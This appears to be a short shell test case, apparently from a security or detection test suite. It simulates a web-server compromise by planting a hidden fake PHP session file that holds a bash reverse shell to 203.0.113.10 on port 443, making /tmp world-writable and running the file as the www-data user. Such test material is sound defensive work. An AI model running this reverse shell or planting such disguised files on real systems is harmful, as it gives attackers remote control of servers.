#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/php/sessions && chmod 1733 /var/lib/php/sessions
cat >/var/lib/php/sessions/.sess_9a7 <<'END'
exec 3<>/dev/tcp/203.0.113.10/443; bash -i <&3 >&3 2>&3
END
chmod 777 /tmp
setpriv --reuid 33 --regid 33 --clear-groups bash /var/lib/php/sessions/.sess_9a7 || true
test -e /tmp/reached
took_place
